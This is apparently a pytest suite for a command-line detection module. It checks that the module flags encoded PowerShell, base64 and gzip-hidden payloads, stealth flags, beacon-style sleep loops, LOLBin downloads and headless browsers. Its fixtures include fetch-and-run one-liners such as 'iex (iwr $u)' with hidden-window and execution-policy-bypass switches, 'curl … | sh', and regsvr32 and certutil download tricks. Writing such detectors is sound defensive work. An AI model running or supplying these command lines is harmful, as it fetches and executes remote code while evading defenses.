"""Signs in command lines: what counts, and the neighbours that do not."""

from __future__ import annotations

import gzip
import zlib
from base64 import b64encode

import pytest

from enricher.core.commands import (
    MAX_INFLATED,
    decoded_forms,
    driven,
    encoded,
    flags,
    headless,
    inline,
    loops,
    names_host,
    one_liner,
)


def utf16(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


FETCH = utf16("iwr https://a.b.workers.dev/x")


@pytest.mark.parametrize(
    "switch",
    [
        "-e",
        "-ec",
        *(f"-{'EncodedCommand'[:length]}" for length in range(2, 15)),
        *(f"{dash}{name}" for dash in "/\u2013\u2014\u2015" for name in ("e", "ec", "enc", "encodedcommand")),
    ],
)
def test_encoded_switches(switch: str) -> None:
    line = f"powershell {switch} {FETCH}"
    assert encoded(line, "powershell") == "-EncodedCommand"
    assert decoded_forms(line) == ("iwr https://a.b.workers.dev/x",)


@pytest.mark.parametrize(
    ("line", "name", "how"),
    [
        pytest.param(f"cmd /c powershell -enc {FETCH}", "cmd", "-EncodedCommand", id="a line that names PowerShell"),
        pytest.param(f"x.exe -enc {FETCH}", "x", None, id="another program's switch"),
        pytest.param("powershell -ep bypass", "powershell", None, id="a switch of another name"),
        pytest.param(f"powershell -EncodedArguments {FETCH}", "powershell", None, id="a switch that begins like it"),
        pytest.param(f"powershell -enc:{FETCH}", "powershell", "-EncodedCommand", id="a colon"),
        pytest.param(f'powershell -enc "{FETCH}"', "powershell", "-EncodedCommand", id="in quotes"),
        pytest.param(f"x.exe -enc {FETCH}", "powershell_ise", "-EncodedCommand", id="PowerShell under another name"),
        pytest.param(f"p^ow^er^shell -e^nc {FETCH}", "cmd", None, id="carets are not taken out"),
        pytest.param(f'"po""wershell" -enc {FETCH}', "cmd", None, id="nor doubled quotes"),
        pytest.param("powershell [convert]::frombase64string($x)", "powershell", "FromBase64String", id="in any case"),
        pytest.param("powershell -e abc", "powershell", None, id="too short for base64"),
        pytest.param("node -e require('x')", "node", None, id="node's own -e"),
        pytest.param("[Convert]::FromBase64String($x)", "powershell", "FromBase64String", id="a call"),
        pytest.param("x " + "A" * 120, "node", "120 base64 characters in a row", id="a long run"),
        pytest.param("x " + "A" * 119, "node", None, id="one character short"),
        pytest.param("x " + "A" * 60 + "-" + "A" * 60, "node", None, id="two short runs"),
    ],
)
def test_encoded(line: str, name: str, how: str | None) -> None:
    assert encoded(line, name) == how


def test_decoded_forms() -> None:
    ascii_blob = b64encode(b"curl https://c.d.workers.dev").decode()
    assert decoded_forms(f"FromBase64String('{ascii_blob}')") == ("curl https://c.d.workers.dev",)
    assert decoded_forms(f"FromBase64String('{FETCH}')") == ("iwr https://a.b.workers.dev/x",)
    assert decoded_forms(f"powershell -enc {utf16(chr(1) * 8)}") == (), "no text"
    assert decoded_forms("powershell -enc AAAAAAA") == (), "no whole base64"
    assert len(decoded_forms(f"powershell {f'-enc {FETCH} ' * 9}")) == 3


HIDDEN = "iwr https://a.b.workers.dev/x"


def literal(raw: bytes) -> str:
    return f"[Convert]::FromBase64String('{b64encode(raw).decode()}')"


def deflated(text: str) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(text.encode()) + packer.flush()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(
            f"powershell -enc {utf16(literal(HIDDEN.encode()))}",
            (literal(HIDDEN.encode()), HIDDEN),
            id="a literal in a command",
        ),
        pytest.param(
            f"powershell -enc {utf16(f'powershell -enc {utf16(HIDDEN)}')}",
            (f"powershell -enc {utf16(HIDDEN)}", HIDDEN),
            id="two commands",
        ),
        pytest.param(literal(gzip.compress(HIDDEN.encode())), (HIDDEN,), id="gzip"),
        pytest.param(literal(gzip.compress(HIDDEN.encode("utf-16-le"))), (HIDDEN,), id="gzip of UTF-16"),
        pytest.param(literal(deflated(HIDDEN)) + " IO.Compression.DeflateStream", (HIDDEN,), id="deflate"),
        pytest.param(literal(gzip.compress(HIDDEN.encode())[:-4]), (HIDDEN,), id="gzip without its end"),
        pytest.param(
            f"powershell -enc {utf16(literal(gzip.compress(HIDDEN.encode())))}",
            (literal(gzip.compress(HIDDEN.encode())), HIDDEN),
            id="gzip in a command",
        ),
        pytest.param(f'FromBase64String(\\"{b64encode(HIDDEN.encode()).decode()}\\")', (HIDDEN,), id="escaped quotes"),
        pytest.param(f'FromBase64String(""{b64encode(HIDDEN.encode()).decode()}"")', (HIDDEN,), id="doubled quotes"),
        pytest.param(literal(HIDDEN.encode("utf-16-le") + b"x"), (HIDDEN,), id="a torn last character"),
        pytest.param(literal(deflated(HIDDEN)), (), id="deflate that nothing names"),
        pytest.param(literal(gzip.compress(bytes(range(256)) * 9)), (), id="no text in it"),
        pytest.param(literal(b"\x1f\x8b" + b"\xff" * 40), (), id="no stream behind its head"),
    ],
)
def test_what_base64_hides(line: str, expected: tuple[str, ...]) -> None:
    assert decoded_forms(line) == expected


def test_a_third_layer_is_not_opened() -> None:
    layers = utf16(HIDDEN)
    for _ in range(2):
        layers = utf16(f"powershell -enc {layers}")
    found = decoded_forms(f"powershell -enc {layers}")
    assert len(found) == 2
    assert HIDDEN not in found


def test_a_bomb_costs_no_more_than_its_limit() -> None:
    """Fifty megabytes in each of twenty literals; all of them together may grow to one limit."""
    bomb = literal(gzip.compress(b"curl " * 10_000_000))
    found = decoded_forms(bomb * 20)
    assert len(found) == 1
    assert len(found[0]) == MAX_INFLATED
    assert decoded_forms(f"{literal(gzip.compress(bytes(1_000_000)))} {literal(gzip.compress(HIDDEN.encode()))}") == ()


def test_of_many_texts_the_first_are_read_the_outer_ones_before_the_inner() -> None:
    inner = [f"inner number {n}" for n in range(9)]
    outer = [f"outer {n} {' '.join(literal(text.encode()) for text in inner[3 * n : 3 * n + 3])}" for n in range(3)]
    found = decoded_forms(" ".join(literal(text.encode()) for text in outer))
    assert found == (*outer, *inner[:3])


@pytest.mark.parametrize(
    ("line", "kinds"),
    [
        ("powershell -w hidden", {"hidden"}),
        ("powershell -WindowStyle Hidden", {"hidden"}),
        ("powershell -w 1", {"hidden"}),
        ("powershell -w:hidden", {"hidden"}),
        ("powershell -w 10", set()),
        ("powershell -nop", {"no_profile"}),
        ("powershell /NoProfile", {"no_profile"}),
        ("powershell -nope", {"no_profile"}),
        ("powershell --nopager", set()),
        ("powershell -ep bypass", {"bypass"}),
        ("powershell -ExecutionPolicy Unrestricted", {"bypass"}),
        ("powershell -ex RemoteSigned", set()),
        ("(New-Object Net.WebClient).DownloadString($u)", {"download"}),
        ("$c.DownloadFile($u, $f); $c.DownloadData($u)", {"download"}),
        ("downloads are here", set()),
        ("iex $x", {"execute"}),
        ("Invoke-Expression $x", {"execute"}),
        ("iexplore.exe", set()),
        ("curl https://x | sh", {"execute"}),
        ("curl https://x |bash -s", {"execute"}),
        ("curl https://x | /bin/bash", {"execute"}),
        ("curl https://x | /usr/bin/zsh", {"execute"}),
        ("curl https://x | /usr/local/bin/ksh", {"execute"}),
        ("curl https://x | dash", {"execute"}),
        ("curl https://x | shuf", set()),
        ("curl https://x | tee sh.txt", set()),
        ("while ($true) { iwr $u; Start-Sleep 30 }", {"sleep_loop"}),
        ("for i in 1 2; do curl $u; sleep 5; done", {"sleep_loop"}),
        ("iwr $u; Start-Sleep 30", set()),
        ("while ($true) { iwr $u }", set()),
        ("while ($true) { Start-Sleep 30 }", set()),
        ("powershell -nop -w hidden -ep bypass -c iex (iwr $u)", {"no_profile", "hidden", "bypass", "execute"}),
    ],
)
def test_flags(line: str, kinds: set[str]) -> None:
    assert flags(line) == kinds


@pytest.mark.parametrize(
    "line",
    [
        "for /l %i in (1,1,5) do curl x",
        "FOR /L %%i in (1,1,5) do curl x",
        "for (let i = 0; i < 5; i++)",
        "for(;;)",
        "for i in a b; do",
        "for %i in (a) do x",
        "for %%i in (a) do x",
        "while true; do",
        "do { x } until ($y)",
        "1..9 | % { x }",
        "setInterval(f, 5000)",
    ],
)
def test_loops(line: str) -> None:
    assert loops(line)


@pytest.mark.parametrize(
    "line", ["wait for it", "meanwhile", "version 1.2.3", "a redo {", "curl x", "setIntervals", "before (x)"]
)
def test_no_loops(line: str) -> None:
    assert not loops(line)


@pytest.mark.parametrize(
    "line",
    [
        "mshta javascript:alert(1)",
        "mshta vbscript:Execute(1)",
        "regsvr32 /s /u scrobj.dll",
        "regsvr32 /i:https://x",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "',
        'GetObject("script:https://x")',
        "script:https://x",
        "wmic os get /format:https://x",
        'wmic os get /FORMAT:"http://x"',
        "certutil -urlcache -f x",
        "certutil /urlcache x",
        "bitsadmin /transfer j x",
    ],
)
def test_inline(line: str) -> None:
    assert inline(line) is not None


@pytest.mark.parametrize(
    "line", ["mshta C:\\x.hta", "regsvr32 C:\\x.dll", "wmic os get /format:list", "scp x", "transfer x"]
)
def test_not_inline(line: str) -> None:
    assert inline(line) is None


@pytest.mark.parametrize(
    ("line", "sign", "lifts"),
    [
        ("chrome --headless", True, True),
        ("chrome --headless=new", True, True),
        ("chrome --remote-debugging-port=9222", True, True),
        ("chrome --remote-debugging-pipe", True, True),
        ("chrome --remote-debugging-address=0.0.0.0", False, True),
        ("chrome https://x/?--headles", False, False),
        ("chrome", False, False),
    ],
)
def test_driven_browsers(line: str, *, sign: bool, lifts: bool) -> None:
    """What adds points is narrower than what lifts the cap."""
    assert headless(line) is sign
    assert driven(line) is lifts


LONG = "x" * 101


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(f"powershell {LONG} https://x", True, id="a URL"),
        pytest.param(f"powershell {LONG} DownloadString", True, id="a download"),
        pytest.param(f"powershell {LONG} iex $x", True, id="execution"),
        pytest.param(f"powershell -enc {FETCH} {LONG}", True, id="an encoding"),
        pytest.param("powershell https://x", False, id="short"),
        pytest.param(f"powershell {LONG}", False, id="long and plain"),
        pytest.param("https://x" + "y" * 91, False, id="exactly 100 characters"),
        pytest.param("https://x" + "y" * 92, True, id="101 characters"),
    ],
)
def test_one_liner(line: str, *, expected: bool) -> None:
    assert one_liner(line) is expected


def test_a_renamed_powershells_one_liner_is_one() -> None:
    assert one_liner(f"svc.exe -enc {FETCH} {LONG}", "powershell")
    assert not one_liner(f"svc.exe -enc {FETCH} {LONG}", "svc")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl https://a.b.workers.dev/x", True),
        ("curl HTTPS://A.B.WORKERS.DEV", True),
        ("a.b.workers.dev", True),
        ("curl https://a.b.workers.dev:8443/", True),
        ("curl https://a.b.workers.dev.", True),
        ("curl https://u@a.b.workers.dev/", True),
        ("curl https://xa.b.workers.dev/", False),
        ("curl https://x.a.b.workers.dev/", False),
        ("curl https://a.b.workers.dev.evil.example/", False),
        ("curl https://a.b.workers.device/", False),
        ("curl https://a.b.workers.dev-x/", False),
        ("xa.b.workers.dev then https://a.b.workers.dev", True),
        ("", False),
    ],
)
def test_names_host(line: str, *, expected: bool) -> None:
    assert names_host(line, "a.b.workers.dev") is expected
